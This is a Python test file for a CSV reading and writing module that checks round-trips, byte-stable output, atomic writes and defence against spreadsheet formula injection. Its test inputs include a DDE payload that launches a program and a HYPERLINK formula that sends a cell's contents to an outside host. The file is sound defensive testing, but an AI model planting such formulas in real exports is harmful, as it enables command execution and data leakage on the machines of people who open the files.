import os

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.model.store import csv_file as tables
from analysis.model.store.csv_file import read_table, replace_text, write_table

# Carriage returns and other controls cannot stand in a cell that was read: its spaces are folded.
texts = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)
formulas = st.builds(str.__add__, st.sampled_from("=+-@'"), texts)


@given(rows=st.lists(st.tuples(texts | formulas, formulas), min_size=1, max_size=6))
def test_any_text_comes_back_equal_and_none_of_it_is_a_formula(rows, tmp_path_factory):
    path = tmp_path_factory.mktemp("table") / "t.csv"
    frame = pd.DataFrame(rows, columns=["one", "two"])
    write_table(frame, path)
    assert read_table(path).to_dict("list") == frame.to_dict("list")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not any(text[:1] in "=+-@" for name in raw for text in raw[name] if text)


LINK = '=HYPERLINK("http://example.org/?" & A1, "Total")'


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+44", "-", "@SUM(A1)", "'quoted", "=cmd|' /C calc'!A0", LINK, "\t=1+1", "＝1+1"],
)
def test_a_formula_is_written_as_quoted_text(text, tmp_path):
    write_table(pd.DataFrame({"text": [text]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines()[1].lstrip('"').startswith("'" + text[0])
    assert read_table(tmp_path / "t.csv")["text"][0] == text


def test_numbers_dates_infinity_and_blanks_have_one_spelling(tmp_path):
    frame = pd.DataFrame(
        {
            "whole": [3.0],
            "part": [1 / 3],
            "most": [float("inf")],
            "none": [float("nan")],
            "day": [pd.Timestamp("2018-03-01")],
            "text": ["  é, £"],
        }
    )
    write_table(frame, tmp_path / "t.csv")
    content = (tmp_path / "t.csv").read_bytes()
    assert content == (
        b"whole,part,most,none,day,text\n" + '3,0.333333333,inf,,2018-03-01,"  é, £"\n'.encode()
    )


def test_the_same_rows_give_the_same_bytes(tmp_path):
    frame = pd.DataFrame({"a": ["x", "=y"], "b": [1, 2]})
    for name in ("one.csv", "two.csv"):
        write_table(frame.copy(), tmp_path / name)
    assert (tmp_path / "one.csv").read_bytes() == (tmp_path / "two.csv").read_bytes()


def test_a_table_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    path = tmp_path / "t.csv"
    replace_text(path, "old\n")

    def fail(*_):
        raise OSError("the disk is full")

    monkeypatch.setattr(tables.os, "replace", fail)
    with pytest.raises(OSError, match="full"):
        replace_text(path, "new\n")
    assert path.read_text() == "old\n"
    assert os.listdir(tmp_path) == ["t.csv"]


def test_an_empty_table_keeps_its_columns(tmp_path):
    write_table(pd.DataFrame({"a": [], "b": []}), tmp_path / "t.csv")
    assert list(read_table(tmp_path / "t.csv").columns) == ["a", "b"]
